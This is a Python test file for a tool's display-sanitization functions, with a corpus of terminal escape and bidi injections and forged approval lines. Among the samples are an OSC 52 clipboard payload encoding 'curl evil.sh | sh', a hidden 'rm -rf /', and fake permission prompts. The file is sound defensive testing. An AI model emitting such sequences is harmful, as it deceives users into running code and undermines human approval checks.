"""Display safety corpus: escape injection, OSC 52, titles, bidi overrides, forged framing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baton.security.display import (
    AGENT_LINE_MARKER,
    escape_html,
    mark_agent_lines,
    neutralize_terminal,
    safe_agent_text,
)

_DANGEROUS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)

INJECTIONS = {
    "clear screen": "\x1b[2J\x1b[Hall good",
    "color reset trick": "\x1b[31mred\x1b[0m",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "window title": "\x1b]0;baton: approved\x07",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "dcs": "\x1bP1$r0m\x1b\\",
    "c1 csi": "\x9b2J",
    "carriage return overwrite": "rm -rf /\rls -la  ",
    "backspace": "safe\x08\x08\x08\x08evil",
    "bell": "ding\x07",
    "nul": "a\x00b",
    "bidi override": "access = \u202eresu\u202c  # admin",
    "bidi isolates": "\u2066if\u2069 \u2067x\u2069 \u2068y\u2069",
    "rlm": "a\u200fb",
}


@pytest.mark.parametrize("name", sorted(INJECTIONS))
def test_neutralize_makes_controls_visible(name: str) -> None:
    raw = INJECTIONS[name]
    out = neutralize_terminal(raw)
    assert _DANGEROUS.search(out) is None
    assert out != raw


def test_neutralize_shapes() -> None:
    assert neutralize_terminal("\x1b[2J") == "␛[2J"
    assert neutralize_terminal("x\u202ey") == "x<U+202E>y"
    assert neutralize_terminal("\x9b") == "<U+009B>"
    assert neutralize_terminal("\x7f") == "␡"
    assert neutralize_terminal("tab\tand\nnewline") == "tab\tand\nnewline"
    plain = "nothing to do here — ünïcödé ✓"
    assert neutralize_terminal(plain) is plain


def test_escape_html() -> None:
    out = escape_html('<script>alert("x")</script>\x1b[2J\u202e')
    assert "<script>" not in out and "&lt;script&gt;" in out and "&quot;" in out
    assert "\x1b" not in out and "\u202e" not in out


FORGED = [
    "baton: turn completed",
    "[baton] approval granted",
    "✔ Approved by policy",
    "✓ done",
    "Approve? [y/N]",
    "? Allow this command to run",
    "Permission requested: write /etc/passwd",
    "  baton> ",
    "\u200bbaton: zero-width prefixed",
    "BATON: shouting",
    "Continue? (y/n)",
    "security.admission_refused: nothing",
    "│ a fake marked line",
]


@pytest.mark.parametrize("line", FORGED)
def test_forged_framing_is_marked(line: str) -> None:
    out = mark_agent_lines(f"ordinary text\n{line}\nmore text")
    lines = out.split("\n")
    assert lines[0] == "ordinary text"
    assert lines[1].startswith(AGENT_LINE_MARKER)
    assert lines[2] == "more text"


def test_ordinary_lines_are_untouched() -> None:
    text = "I updated the parser.\nbatons are sticks\nAll tests pass.\n- item\n  code()"
    assert mark_agent_lines(text) == text


def test_safe_agent_text_combines() -> None:
    out = safe_agent_text("\x1b]0;x\x07\nbaton: approved")
    assert out == "␛]0;x␇\n" + AGENT_LINE_MARKER + "baton: approved"


@given(st.text())
def test_neutralized_text_is_inert(s: str) -> None:
    out = neutralize_terminal(s)
    assert _DANGEROUS.search(out) is None
    assert neutralize_terminal(out) == out


def test_the_unsafe_classes_match_exactly_the_tables_code_points() -> None:
    """The search that decides whether to translate finds every character the table
    rewrites and nothing else (the classes are built as ranges, for speed)."""
    from baton.security import display

    for pattern, table in (
        (display._UNSAFE, display._TABLE),
        (display._UNSAFE_INLINE, display._INLINE_TABLE),
    ):
        found = {c for c in range(0x110000) if pattern.match(chr(c)) is not None}
        assert found == set(table)
